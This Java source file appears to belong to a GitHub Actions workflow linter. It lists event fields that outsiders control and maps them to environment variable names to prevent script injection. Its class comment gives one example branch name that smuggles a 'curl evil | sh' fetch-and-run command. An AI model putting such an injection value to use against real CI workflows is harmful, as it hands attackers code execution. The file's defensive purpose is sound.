package dev.gha4j.policy;

import java.util.List;

/**
 * Event fields whose text someone outside the repository's writers chooses: titles, bodies and
 * branch names of issues, pull requests, comments, reviews, commits and discussions. A name such
 * as {@code a"; curl evil | sh; echo "} is a valid branch name. The list follows the GitHub
 * Security Lab's "untrusted input" guidance, as actionlint and zizmor do.
 */
final class UntrustedInputs {
  private static final List<List<String>> PATHS = List.of(
      p("github.event.issue.title"), p("github.event.issue.body"),
      p("github.event.pull_request.title"), p("github.event.pull_request.body"),
      p("github.event.pull_request.head.ref"), p("github.event.pull_request.head.label"),
      p("github.event.pull_request.head.repo.default_branch"),
      p("github.event.comment.body"), p("github.event.review.body"), p("github.event.review_comment.body"),
      p("github.event.pages.*.page_name"),
      p("github.event.commits.*.message"), p("github.event.commits.*.author.email"),
      p("github.event.commits.*.author.name"),
      p("github.event.head_commit.message"), p("github.event.head_commit.author.email"),
      p("github.event.head_commit.author.name"),
      p("github.event.workflow_run.head_branch"), p("github.event.workflow_run.head_commit.message"),
      p("github.event.workflow_run.head_commit.author.email"), p("github.event.workflow_run.head_commit.author.name"),
      p("github.event.workflow_run.pull_requests.*.head.ref"),
      p("github.event.discussion.title"), p("github.event.discussion.body"),
      p("github.head_ref"));

  private UntrustedInputs() {}

  private static List<String> p(String dotted) {
    return List.of(dotted.split("\\."));
  }

  /** True when the path is, contains, or (rendered whole) includes untrusted text. */
  static boolean untrusted(ExprPaths.Path path) {
    List<String> s = path.segments();
    for (List<String> u : PATHS) {
      int n = Math.min(s.size(), u.size());
      if (!prefixMatches(s, u, n)) continue;
      if (s.size() >= u.size() || path.whole()) return true;
    }
    return false;
  }

  private static boolean prefixMatches(List<String> path, List<String> untrusted, int n) {
    for (int i = 0; i < n; i++) {
      String a = path.get(i);
      String b = untrusted.get(i);
      if (!a.equals(b) && !a.equals("*") && !b.equals("*")) return false;
    }
    return true;
  }

  /** An environment variable name for the value: {@code github.event.pull_request.title} → {@code PULL_REQUEST_TITLE}. */
  static String variableName(ExprPaths.Path path) {
    List<String> named = path.segments().stream()
        .filter(s -> !s.equals("*") && !s.equals("github") && !s.equals("event")).toList();
    List<String> last = named.subList(Math.max(0, named.size() - 2), named.size());
    String name = String.join("_", last).toUpperCase(java.util.Locale.ROOT).replaceAll("[^A-Z0-9_]", "_");
    if (path.whole()) return (name.isEmpty() ? "EVENT" : name) + "_JSON";
    return name.isEmpty() ? "EVENT_TEXT" : name;
  }
}
